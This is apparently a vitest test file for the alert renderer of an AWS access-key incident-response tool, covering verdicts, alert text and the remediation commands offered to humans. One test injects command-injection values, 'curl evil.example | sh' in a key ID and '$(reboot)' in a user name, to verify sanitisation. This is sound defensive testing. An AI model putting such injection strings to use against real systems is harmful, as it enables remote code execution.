import { describe, expect, it } from "vitest";
import {
  ALERT_SCHEMA,
  ALERT_VERSION,
  renderAlert,
  renderProblemAlert,
  verdictOf,
} from "../../../src/alert/render";
import type { Config } from "../../../src/config";
import type { Finding } from "../../../src/findings";
import { type Outcome, Status } from "../../../src/outcome";
import { type Plan, planContainment } from "../../../src/plan/plan";
import { findingOf, ourIdentity, testConfig } from "../../support/fixtures";

const NOW = new Date("2026-11-20T09:05:04.000Z");
const live = { dryRun: false, now: NOW };

const planFor = (finding: Finding, config: Config = testConfig()): Plan =>
  planContainment(finding, config, ourIdentity());

const outcome = (plan: Plan, status: Outcome["status"], extra: Partial<Outcome> = {}): Outcome => ({
  plan,
  status,
  detail: status === Status.Skipped ? plan.why : `${plan.finding.accessKeyId}: ${status}`,
  userName: plan.userName,
  account: plan.account,
  siblings: [],
  notes: [],
  ...extra,
});

const disabledAlice = (): Outcome =>
  outcome(planFor(findingOf("guardduty-iam-user")), Status.Disabled, {
    detail: "AKIAALICE00000000001 of alice is now Inactive",
    containedAt: "2026-11-20T09:05:03.000Z",
  });

const skipped = (fixture: string, config?: Config, overrides: Partial<Finding> = {}): Outcome =>
  outcome(planFor(findingOf(fixture, overrides), config), Status.Skipped);

/** Every line of an alert that a person might paste into a shell. */
const shellCommands = (steps: string[]): string[] =>
  steps.filter((step) => /\baws (iam|cloudtrail) /.test(step));

describe("verdictOf", () => {
  it.each([
    ["failed when any key failed", [Status.Failed, Status.Disabled], false, "failed"],
    [
      "action-required when IAM refused with an explicit deny",
      [Status.Protected, Status.Disabled],
      false,
      "action-required",
    ],
    ["contained when a key was disabled", [Status.Disabled, Status.AlreadyDone], false, "contained"],
    ["contained when sessions were revoked", [Status.SessionsRevoked], false, "contained"],
    ["reactivated when a key was reactivated", [Status.Reactivated], false, "reactivated"],
    ["no-action for a repeat", [Status.AlreadyDone], false, "no-action"],
    ["no-action for a key that is gone", [Status.KeyGone], false, "no-action"],
    ["dry-run in a dry run", [Status.DryRun], true, "dry-run"],
    ["failed before dry-run", [Status.Failed], true, "failed"],
  ])("says %s", (_, statuses, dryRun, expected) => {
    const plan = planFor(findingOf("guardduty-iam-user"));

    expect(
      verdictOf(
        statuses.map((status) => outcome(plan, status)),
        dryRun,
      ),
    ).toBe(expected);
  });

  it("requires action for an urgent skip (root) but not for a sample or a finding below the threshold", () => {
    expect(verdictOf([skipped("guardduty-root")], false)).toBe("action-required");
    expect(verdictOf([skipped("guardduty-sample")], false)).toBe("no-action");
    expect(verdictOf([skipped("guardduty-low-severity")], false)).toBe("no-action");
  });
});

describe("renderAlert", () => {
  it("builds the versioned document for programs with every key's facts", () => {
    const alert = renderAlert([disabledAlice()], live);

    expect(alert.document).toMatchObject({
      schema: ALERT_SCHEMA,
      version: ALERT_VERSION,
      verdict: "contained",
      dryRun: false,
      source: "guardduty",
      eventId: "6f1d2c84-3b9e-4a57-8c0d-9e2f41a7b365",
      generatedAt: "2026-11-20T09:05:04.000Z",
      keys: [
        {
          accessKeyId: "AKIAALICE00000000001",
          userName: "alice",
          account: "111111111111",
          status: "disabled",
          action: "disable-key",
          urgent: false,
          containedAt: "2026-11-20T09:05:03.000Z",
          finding: {
            id: "3f8a1c0e6b2d4e5f9a7c1b3d5e7f9a2c",
            type: "UnauthorizedAccess:IAMUser/TorIPCaller",
            severity: 5,
            region: "us-east-1",
            firstSeen: "2026-11-20T09:00:00.000Z",
            details: { "Remote IP": "203.0.113.24" },
          },
        },
      ],
    });
    expect(ALERT_SCHEMA).toBe("access-key-responder/alert");
    expect(ALERT_VERSION).toBe(1);
  });

  it("gives the reactivation command and the CloudTrail review for a disabled key", () => {
    const alert = renderAlert([disabledAlice()], live);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(steps).toContain(
      "If this was a false positive, reactivate it: " +
        "aws iam update-access-key --user-name alice --access-key-id AKIAALICE00000000001 --status Active " +
        "(in account 111111111111)",
    );
    expect(steps).toContain(
      "Review what the key did: aws cloudtrail lookup-events --lookup-attributes " +
        "AttributeKey=AccessKeyId,AttributeValue=AKIAALICE00000000001 (in account 111111111111)",
    );
    expect(alert.text).toContain(
      "aws iam update-access-key --user-name alice --access-key-id AKIAALICE00000000001 --status Active",
    );
  });

  it("names the account in the reactivation command of a member account's key", () => {
    const config = testConfig({ memberRoleName: "ResponderMember" });
    const plan = planFor(findingOf("guardduty-member-account"), config);

    const steps = renderAlert([outcome(plan, Status.Disabled)], live).document.keys[0]?.nextSteps ?? [];

    expect(steps.some((step) => step.endsWith("--status Active (in account 222222222222)"))).toBe(true);
  });

  it.each([Status.Disabled, Status.Failed, Status.Protected, Status.Reactivated])(
    "never puts an invalid key ID or user name into a shell command of a %s outcome",
    (status) => {
      const finding = findingOf("guardduty-iam-user", {
        accessKeyId: "AKIA'; curl evil.example | sh #",
        userName: "alice$(reboot)",
      });
      const plan: Plan = { ...planFor(findingOf("guardduty-iam-user")), finding, userName: "alice$(reboot)" };

      const alert = renderAlert([outcome(plan, status, { userName: "alice$(reboot)" })], live);
      const commands = shellCommands(alert.document.keys[0]?.nextSteps ?? []);

      expect(commands.length).toBeGreaterThan(0);
      for (const command of commands) {
        expect(command).not.toContain("curl");
        expect(command).not.toContain("$(reboot)");
        expect(command).toMatch(/<access-key-id>/);
      }
      expect(shellCommands(alert.text.split("\n")).join("\n")).not.toMatch(/curl|\$\(reboot\)/);
    },
  );

  it("gives no shell command at all for the invalid-key fixture", () => {
    const alert = renderAlert([skipped("guardduty-invalid-key")], live);
    const key = alert.document.keys[0];

    expect(key?.skip).toBe("invalid-input");
    expect(shellCommands(key?.nextSteps ?? [])).toEqual([]);
    expect(shellCommands(alert.text.split("\n"))).toEqual([]);
    expect(alert.document.verdict).toBe("action-required");
  });

  it("tells a person to act on the root user now", () => {
    const alert = renderAlert([skipped("guardduty-root")], live);

    expect(alert.text).toContain("[ROOT CREDENTIALS - ACT NOW] AKIAROOT000000000001");
    expect(alert.text).toContain(
      "URGENT: sign in as the root user, delete the root access key, change the root password and check MFA.",
    );
    expect(alert.document.keys[0]).toMatchObject({ urgent: true, skip: "root", action: "none" });
    expect(alert.subject.startsWith("ACTION REQUIRED:")).toBe(true);
  });

  it("explains how to revoke a role's sessions for a temporary key", () => {
    const alert = renderAlert([skipped("guardduty-assumed-role")], live);

    expect(alert.text).toContain("[TEMPORARY KEY - ACT NOW] ASIAROLE000000000001");
    expect(alert.document.keys[0]?.nextSteps[0]).toContain(
      "IAM console: Roles > web-instance-role > Revoke active sessions",
    );
    expect(alert.text).toContain("REVOKE_SESSIONS=true");
  });

  it("says a sample needs no action", () => {
    const alert = renderAlert([skipped("guardduty-sample")], live);

    expect(alert.text).toContain("[SAMPLE]");
    expect(alert.document.verdict).toBe("no-action");
    expect(alert.subject.startsWith("No action needed:")).toBe(true);
  });

  it("notes a finding below the threshold with the command to disable it by hand", () => {
    const alert = renderAlert([skipped("guardduty-low-severity")], live);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(alert.text).toContain("[NOTED] AKIAALICE00000000001 - user alice");
    expect(steps).toHaveLength(1);
    expect(steps[0]).toMatch(
      /^Review the finding\. To disable the key now: aws iam update-access-key --user-name \S+ --access-key-id AKIAALICE00000000001 --status Inactive$/,
    );
  });

  it("says which account a key of another account is in and why it was not changed", () => {
    const alert = renderAlert([skipped("guardduty-member-account")], live);

    expect(alert.text).toContain(
      "[OTHER ACCOUNT - NOT CHANGED] AKIAERIN000000000001 - user erin - account 222222222222",
    );
    expect(alert.text).toContain("no member role is configured to act there");
    expect(alert.document.keys[0]?.nextSteps).toEqual([
      expect.stringMatching(
        /^Disable it in account 222222222222: aws iam update-access-key .*--access-key-id AKIAERIN000000000001 --status Inactive$/,
      ),
      "Or deploy the member role to that account and set MEMBER_ROLE_NAME.",
    ]);
  });

  it.each([
    ["below the threshold", "guardduty-low-severity", "alice", undefined],
    ["of another account", "guardduty-member-account", "erin", undefined],
    ["of a protected user", "guardduty-protected-user", "breakglass-admin", ["breakglass-admin"]],
  ])("fills the named user into the by-hand command for a key %s", (_, fixture, user, protectedUsers) => {
    const config = testConfig({ protectedUsers: protectedUsers ?? [] });

    const steps = renderAlert([skipped(fixture, config)], live).document.keys[0]?.nextSteps ?? [];

    expect(shellCommands(steps).some((step) => step.includes(`--user-name ${user} `))).toBe(true);
  });

  it("says a protected user's key was not changed and a person must decide", () => {
    const alert = renderAlert(
      [skipped("guardduty-protected-user", testConfig({ protectedUsers: ["breakglass-admin"] }))],
      live,
    );

    expect(alert.text).toContain("[PROTECTED - NOT CHANGED] AKIABREAKGLASS000001");
    expect(alert.document.verdict).toBe("action-required");
  });

  it("flags siblings possibly created by the attacker and asks to check them", () => {
    const alert = renderAlert(
      [
        {
          ...disabledAlice(),
          siblings: [
            {
              accessKeyId: "AKIAALICE00000000002",
              status: "Active",
              created: "2026-11-20T09:02:00.000Z",
              suspicious: true,
              disabled: false,
            },
          ],
        },
      ],
      live,
    );

    expect(alert.text).toContain(
      "Other key AKIAALICE00000000002 (Active, created 2026-11-20T09:02:00.000Z) - created after the finding was " +
        "first seen: possibly created by the attacker",
    );
    expect(alert.document.keys[0]?.nextSteps).toContain(
      "Check the keys flagged as possibly created by the attacker and disable them if they are not known.",
    );
  });

  it("tells how to disable the key by hand when containment failed", () => {
    const alert = renderAlert([outcome(planFor(findingOf("guardduty-iam-user")), Status.Failed)], live);

    expect(alert.document.verdict).toBe("failed");
    expect(alert.document.keys[0]?.urgent).toBe(true);
    expect(alert.document.keys[0]?.nextSteps[0]).toBe(
      "Disable the key by hand now: " +
        "aws iam update-access-key --user-name alice --access-key-id AKIAALICE00000000001 --status Inactive " +
        "(in account 111111111111)",
    );
  });

  it("gives the command to disable a reactivated key again", () => {
    const plan = planFor(findingOf("manual-reactivate"));

    const alert = renderAlert([outcome(plan, Status.Reactivated)], live);

    expect(alert.document.keys[0]?.nextSteps).toEqual([
      "To disable it again: " +
        "aws iam update-access-key --user-name ivan --access-key-id AKIAIVAN000000000001 --status Inactive " +
        "(in account 111111111111)",
    ]);
    expect(alert.text).toContain(
      "Reason:   False positive: key belongs to the CI test fixture (ticket SEC-1043)",
    );
  });

  it("says nothing was changed in a dry run", () => {
    const plan = planFor(findingOf("guardduty-iam-user"), testConfig({ dryRun: true }));

    const alert = renderAlert([outcome(plan, Status.DryRun)], { dryRun: true, now: NOW });

    expect(alert.document).toMatchObject({ verdict: "dry-run", dryRun: true });
    expect(alert.text).toContain("access-key-responder: Dry run (DRY RUN: no change was made)");
    expect(alert.subject.startsWith("Dry run:")).toBe(true);
  });

  it("keeps the subject to 100 printable ASCII characters on one line", () => {
    const finding = findingOf("guardduty-iam-user", {
      type: `Exfiltration:IAMUser/${"Ünïcödé\n".repeat(30)}`,
      userName: "alice",
    });
    const alert = renderAlert([outcome(planFor(finding), Status.Disabled)], live);

    expect(alert.subject.length).toBeLessThanOrEqual(100);
    expect(alert.subject).toMatch(/^[\x20-\x7e]+$/);
    expect(alert.subject.startsWith("Contained: AKIAALICE00000000001 (alice) - Exfiltration:IAMUser/")).toBe(
      true,
    );
  });

  it("names the first key and how many more in the subject", () => {
    const [bob, carol] = ["AKIABOB0000000000001", "AKIACAROL00000000001"].map((accessKeyId) =>
      outcome(planFor(findingOf("health-credentials-compromised", { accessKeyId })), Status.Disabled),
    );

    const alert = renderAlert([bob as Outcome, carol as Outcome], live);

    expect(alert.subject).toBe("Contained: AKIABOB0000000000001 +1 more - AWS_RISK_CREDENTIALS_COMPROMISED");
    expect(alert.document.keys).toHaveLength(2);
  });

  it("sets the outcome, highest severity, accounts and source as attributes", () => {
    const low = skipped("guardduty-low-severity");
    const member = skipped("guardduty-member-account");

    const alert = renderAlert([disabledAlice(), low, member], live);

    expect(alert.attributes).toEqual({
      outcome: "action-required",
      severity: "5",
      account: "111111111111,222222222222",
      source: "guardduty",
    });
  });

  it('says "none" and "unknown" when no severity or account is known', () => {
    const plan = planFor(findingOf("health-credentials-compromised"), testConfig());
    const unknownAccount = { ...plan, account: undefined };

    const alert = renderAlert([outcome(unknownAccount, Status.Disabled)], live);

    expect(alert.attributes).toEqual({
      outcome: "contained",
      severity: "none",
      account: "unknown",
      source: "health",
    });
  });
});

describe("renderProblemAlert", () => {
  it("tells a person an event could not be read and that nothing was changed", () => {
    const alert = renderProblemAlert(
      {
        source: "guardduty",
        eventId: "a7d24f9b-3c6e-4b10-8f5a-e09b7c2d1e64",
        reason: "GuardDuty event has no detail",
      },
      live,
    );

    expect(alert.subject).toBe("Could not act on guardduty event a7d24f9b-3c6e-4b10-8f5a-e09b7c2d1e64");
    expect(alert.document).toEqual({
      schema: "access-key-responder/alert",
      version: 1,
      verdict: "invalid",
      dryRun: false,
      source: "guardduty",
      eventId: "a7d24f9b-3c6e-4b10-8f5a-e09b7c2d1e64",
      generatedAt: "2026-11-20T09:05:04.000Z",
      keys: [],
      problem: "GuardDuty event has no detail",
    });
    expect(alert.text).toContain("Could not act on event - no change was made");
    expect(alert.text).toContain("Problem: GuardDuty event has no detail");
    expect(alert.attributes).toEqual({
      outcome: "invalid",
      severity: "none",
      account: "unknown",
      source: "guardduty",
    });
  });

  it("clips a long problem and keeps the subject within limits without a source", () => {
    const alert = renderProblemAlert({ eventId: "e".repeat(200), reason: "x".repeat(5000) }, live);

    expect(alert.document.problem?.length).toBeLessThan(1100);
    expect(alert.subject.length).toBeLessThanOrEqual(100);
    expect(alert.subject.startsWith("Could not act on an event")).toBe(true);
    expect(alert.attributes.source).toBe("unknown");
  });
});
